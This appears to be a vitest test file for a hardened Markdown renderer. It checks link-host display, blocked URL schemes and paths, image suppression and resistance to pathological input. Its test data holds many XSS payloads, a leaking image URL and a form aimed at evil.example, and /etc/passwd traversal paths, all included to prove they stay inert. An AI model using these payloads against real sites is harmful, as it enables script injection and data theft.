import { describe, expect, it } from "vitest";
import { linkTarget, renderMarkdown } from "./markdown";

function html(source: string): string {
  const box = document.createElement("div");
  box.append(renderMarkdown(source));
  return box.innerHTML;
}

describe("what people write", () => {
  it.each([
    ["emphasis", "a **b** _c_ ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p>\n"],
    ["a list that starts late", "3. x\n4. y", '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>\n'],
    ["aligned cells", "|a|b|\n|-|-:|\n|1|2|", '<th>a</th><th class="md-right">b</th>'],
    ["a comparison", "if a < b && b > c", "<p>if a &lt; b &amp;&amp; b &gt; c</p>\n"],
    ["Chinese", "## 结果：**通过**", "<h2>结果：<strong>通过</strong></h2>\n"],
  ])("renders %s", (_, source, expected) => {
    expect(html(source)).toContain(expected);
  });

  it("renders task lists as labelled boxes that can't be pressed", () => {
    const box = document.createElement("div");
    box.append(renderMarkdown("- [x] done\n- [ ] open"));
    expect([...box.querySelectorAll("[role=checkbox]")].map((e) => e.getAttribute("aria-checked"))).toEqual(["true", "false"]);
    expect(box.querySelector("input")).toBeNull();
  });
});

describe("links", () => {
  it("show the real host and carry no href", () => {
    const box = document.createElement("div");
    box.append(renderMarkdown("[github.com/login](https://evil.example/github.com)"));
    const link = box.querySelector("a");
    expect(link?.textContent).toBe("github.com/login evil.example");
    expect(link?.hasAttribute("href")).toBe(false);
    expect(link?.getAttribute("data-link")).toBe("https://evil.example/github.com");
  });

  it.each([
    ["[support.company.com](https://t.co/x)", "support.company.com t.co"],
    ["[t.co.evil.example](https://t.co/x)", "t.co.evil.example t.co"],
    ["[see t.co/x](https://t.co/x)", "see t.co/x t.co"],
    ["[docs.rs](https://docs.rs/x)", "docs.rs"],
    ["[https://Docs.rs/x?y](https://docs.rs/x)", "https://Docs.rs/x?y"],
    ["<https://docs.rs/x>", "https://docs.rs/x"],
    ["<ada@example.com>", "ada@example.com"],
    ["[docs.rs@evil.example](https://evil.example)", "docs.rs@evil.example evil.example"],
  ])("%s show the host unless the label is it", (source, text) => {
    const box = document.createElement("div");
    box.append(renderMarkdown(source));
    expect(box.querySelector("a")?.textContent).toBe(text);
  });

  it("show a look-alike host in ASCII", () => {
    expect(linkTarget("https://аpple.com/")?.host).toBe("xn--pple-43d.com");
  });

  it.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "blob:x", "//evil.example/x", "tauri://localhost", "ipc://x"])(
    "to %s lead nowhere",
    (href) => {
      expect(linkTarget(href)).toBeNull();
      const box = document.createElement("div");
      box.append(renderMarkdown(`[x](<${href}>) <${href}>`));
      expect(box.querySelector("[href], [data-link]")).toBeNull();
    },
  );

  it("to files of the workspace keep their path, and can't climb out", () => {
    const box = document.createElement("div");
    box.append(renderMarkdown("[tax](src/tax.rs:12) [up](../../etc/passwd) [root](/etc/passwd)"));
    expect([...box.querySelectorAll("[data-link]")].map((e) => e.getAttribute("data-link"))).toEqual(["src/tax.rs:12"]);
  });

  it("replace images: nothing is loaded", () => {
    const box = document.createElement("div");
    box.append(renderMarkdown("![secret](https://evil.example/?q=leak) ![r][i]\n\n[i]: https://evil.example/b.png"));
    expect(box.querySelector("img, picture, svg, video, audio")).toBeNull();
    expect(box.textContent).toContain("evil.example");
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=x></object><embed src=x>",
  "<form action=https://evil.example><input name=key autofocus><button>ok</button></form>",
  "<base href=https://evil.example>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<a href='javascript:alert(1)'>x</a>",
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](https://a.example \"onmouseover=alert(1)\")",
  "![x](https://evil.example/a.png)",
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
  "<xss style=\"xss:expression(alert(1))\">",
  "<template><script>alert(1)</script></template>",
  "<p id=window class=button data-link=https://evil.example>",
];

describe("hostile text", () => {
  const TAGS = "script,style,link,iframe,object,embed,form,input,button,textarea,select,base,meta,svg,math,img,video,audio,details,template,dialog";

  it.each(HOSTILE)("%s is inert", (source) => {
    const box = document.createElement("div");
    box.append(renderMarkdown(source));
    expect(box.querySelector(TAGS)).toBeNull();
    for (const element of box.querySelectorAll("*")) {
      for (const { name } of element.attributes) {
        expect(["class", "start", "role", "tabindex", "data-link", "title", "aria-checked", "aria-label"]).toContain(name);
      }
    }
  });

  it("can't make a link of HTML that carries our own attribute", () => {
    const box = document.createElement("div");
    box.append(renderMarkdown('<a data-link="https://evil.example">x</a>'));
    expect(box.querySelector("[data-link]")).toBeNull();
  });

  it.each([
    ["quotes", "> ".repeat(20_000) + "x"],
    ["lists", Array.from({ length: 2_000 }, (_, n) => " ".repeat(n * 2) + "- x").join("\n")],
    ["brackets", "[".repeat(50_000)],
    ["emphasis", "*a **a ".repeat(8_000)],
    ["open links", "[a](".repeat(8_000)],
    ["backticks", Array.from({ length: 400 }, (_, n) => "`".repeat(n)).join("a ")],
    ["tables", "|".repeat(20_000) + "\n" + "|-".repeat(10_000)],
    ["angle brackets", "<a ".repeat(15_000)],
    ["one long word", "a".repeat(2_000_000)],
  ])("huge %s are shown within a second", (_, source) => {
    // Processor time: a busy machine changes nothing.
    const start = process.cpuUsage();
    const text = renderMarkdown(source).textContent ?? "";
    expect(text.length).toBeGreaterThan(0);
    expect(process.cpuUsage(start).user / 1_000).toBeLessThan(1_000);
  });

  it("shows direction overrides and invisible characters", () => {
    expect(html("invoice\u202egpj.exe a\u200bb")).toBe("<p>invoice\\u{202e}gpj.exe a\\u{200b}b</p>\n");
  });
});
